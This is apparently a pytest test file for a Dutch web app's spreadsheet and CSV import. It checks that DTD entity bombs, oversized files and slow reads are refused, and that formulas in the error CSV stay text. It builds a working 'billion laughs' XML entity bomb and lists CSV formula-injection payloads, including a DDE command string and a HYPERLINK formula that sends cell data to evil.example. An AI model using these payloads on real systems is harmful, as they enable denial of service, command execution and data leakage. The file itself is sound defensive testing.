"""Hostile files on the readers' side: a DTD in an xlsx, too many rows, too long cells, too long reading,
and formulas echoed in the error CSV (issue 14)."""

import csv
import io
import zipfile

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session, func, select

from app.core.config import get_settings
from app.imports import router as imports_router
from app.imports import service
from app.imports.readers import LeesFout, OngeldigXlsx, TeGrootBestand, XlsxLezer, controleer_zip, lezer_voor
from app.models import Contactmoment, ImportRun
from tests.factories import make_key
from tests.imports.helpers import KOP, Omgeving, csv_bytes, importeer, rij, xlsx_bytes

# Nine levels of ten: `&l8;` expands to 10^8 times "lol" (a billion laughs).
ENTITEITEN = b'<!ENTITY l0 "lol">' + b"".join(
    b'<!ENTITY l%d "%s">' % (i, b"&l%d;" % (i - 1) * 10) for i in range(1, 9)
)


def met_dtd(werkboek: bytes, *, lid: str = "xl/worksheets/sheet1.xml", utf16: bool = False) -> bytes:
    """The workbook with a DTD declaring an entity bomb in one member, and the bomb used in a cell of the sheet."""
    uit = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(werkboek)) as bron, zipfile.ZipFile(uit, "w", zipfile.ZIP_DEFLATED) as doel:
        for info in bron.infolist():
            inhoud = bron.read(info.filename)
            if info.filename == lid:
                inhoud = inhoud.replace(b"Mays A.", b"&l8;")
                dtd = b"<!DOCTYPE x [" + ENTITEITEN + b"]>"
                kop, rest = inhoud.split(b"?>", 1) if inhoud.startswith(b"<?xml") else (b"", inhoud)
                inhoud = (kop + b"?>" if kop else b"") + b"\n<!-- opmaak -->\n" + dtd + rest
                if utf16:
                    inhoud = inhoud.replace(b'encoding="UTF-8"', b'encoding="UTF-16"').decode().encode("utf-16")
            doel.writestr(info, inhoud)
    return uit.getvalue()


WERKBOEK = xlsx_bytes({"Blad1": [KOP, rij()]})


@pytest.mark.parametrize("lid", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "[Content_Types].xml"])
def test_a_dtd_in_any_member_is_refused_before_parsing(lid: str) -> None:
    with pytest.raises(OngeldigXlsx, match="bevat een DTD"):
        controleer_zip(met_dtd(WERKBOEK, lid=lid))
    with pytest.raises(OngeldigXlsx):
        list(XlsxLezer(met_dtd(WERKBOEK, lid=lid)).rijen())


def test_a_dtd_hidden_in_utf16_is_found_too() -> None:
    with pytest.raises(OngeldigXlsx):
        controleer_zip(met_dtd(WERKBOEK, utf16=True))


def test_a_real_workbook_has_no_dtd() -> None:
    controleer_zip(WERKBOEK)
    assert len(list(XlsxLezer(WERKBOEK).rijen())) == 1


def test_an_entity_bomb_past_the_check_is_still_a_read_error(monkeypatch: pytest.MonkeyPatch) -> None:
    # Were the DTD check ever bypassed, expat's own amplification limit must end as a read error, not a 500.
    monkeypatch.setattr("app.imports.readers._heeft_dtd", lambda archief, lid: False)
    with pytest.raises(LeesFout, match="ongeldige XML"):
        list(XlsxLezer(met_dtd(WERKBOEK)).rijen())


def test_upload_with_a_dtd_is_a_400_and_leaves_no_run(client: TestClient, session: Session, omgeving: Omgeving) -> None:
    sleutel = make_key(session, organisatie=omgeving.organisatie, scopes=("registreren",))
    voor = session.exec(select(func.count()).select_from(ImportRun)).one()
    response = client.post("/v1/imports", content=met_dtd(WERKBOEK), params={"proefdraai": "true"},
                           headers={**sleutel, "Content-Type": imports_router.XLSX_MEDIA_TYPE})
    assert response.status_code == 400, response.text
    assert response.headers["content-type"] == "application/problem+json"
    [param] = response.json()["invalidParams"]
    assert param["name"] == "body" and "bevat een DTD" in param["reason"]
    assert session.exec(select(func.count()).select_from(ImportRun)).one() == voor


# --- Limits on rows, cell length and reading time -------------------------------------------------


def _mislukt(session: Session, omgeving: Omgeving, bestand: bytes) -> service.Verslag:
    verslag = importeer(session, omgeving, bestand, per_rij=True)
    assert verslag.status == "mislukt" and not verslag.opgeslagen
    assert session.exec(select(func.count()).select_from(Contactmoment).where(
        Contactmoment.organisatie_id == omgeving.organisatie.id)).one() == 0
    return verslag


def test_more_rows_than_allowed_fail_the_file(session: Session, omgeving: Omgeving, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(get_settings(), "max_import_rijen", 3)
    assert len(list(lezer_voor("csv", csv_bytes([rij()] * 3)).rijen())) == 3
    verslag = _mislukt(session, omgeving, csv_bytes([rij(Datum=f"{d}-3-2025") for d in range(1, 6)]))
    assert verslag.melding == "Het bestand heeft meer dan 3 rijen; dat is de grens. Splits het bestand."


@pytest.mark.parametrize("formaat", ["csv", "xlsx", "ndjson"])
def test_a_cell_longer_than_allowed_fails_the_file(formaat: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(get_settings(), "max_import_cel_tekens", 100)
    lang = "x" * 101
    bestanden = {
        "csv": csv_bytes([rij(), rij(Onderwerp=lang)]),
        "xlsx": xlsx_bytes({"Blad1": [KOP, rij(), rij(Onderwerp=lang)]}),
        "ndjson": b'{"datum": "2025-03-14"}\n{"datum": "2025-03-14", "onderwerpen": ["' + lang.encode() + b'"]}\n',
    }
    with pytest.raises(TeGrootBestand, match="meer dan 100 tekens") as fout:
        list(lezer_voor(formaat, bestanden[formaat]).rijen())
    assert ("Rij 3" if formaat != "ndjson" else "Rij 2") in str(fout.value)


def test_reading_longer_than_allowed_fails_the_file(session: Session, omgeving: Omgeving, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(get_settings(), "max_import_seconden", 1e-6)
    verslag = _mislukt(session, omgeving, csv_bytes([rij(Datum=f"{d}-3-2025") for d in range(1, 29)]))
    assert verslag.melding is not None and verslag.melding.startswith("Het lezen duurde langer dan 1e-06 seconden")


# --- The error CSV ------------------------------------------------------------------------------


def test_formulas_in_the_error_csv_stay_text(session: Session, omgeving: Omgeving) -> None:
    formules = ["=cmd|' /C calc'!A0", "@SUM(A1)", '=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+2", "-2+3"]
    verslag = importeer(session, omgeving, csv_bytes([rij(Kanaal=f) for f in formules]), per_rij=True)
    regels = list(csv.reader(io.StringIO(service.fouten_csv(verslag.als_rapport()).lstrip("\ufeff")), delimiter=";"))
    assert [(r[3], r[4]) for r in regels[1:]] == [("Kanaal", "'" + f) for f in formules]
    assert all(not cel.startswith(("=", "+", "-", "@")) for r in regels[1:] for cel in r)


def test_a_file_or_sheet_name_with_a_bsn_is_refused(client: TestClient, session: Session, omgeving: Omgeving) -> None:
    # Both are stored with the run (`bestandsnaam`, `opties.blad`): the guard of every other text applies.
    sleutel = make_key(session, organisatie=omgeving.organisatie, scopes=("registreren",))
    response = client.post("/v1/imports", content=csv_bytes([rij()]),
                           params={"bestandsnaam": "client 111222333.csv", "blad": "Fatima 111-222-333", "proefdraai": "true"},
                           headers={**sleutel, "Content-Type": "text/csv"})
    assert response.status_code == 400, response.text
    assert sorted(p["name"] for p in response.json()["invalidParams"]) == ["bestandsnaam", "blad"]
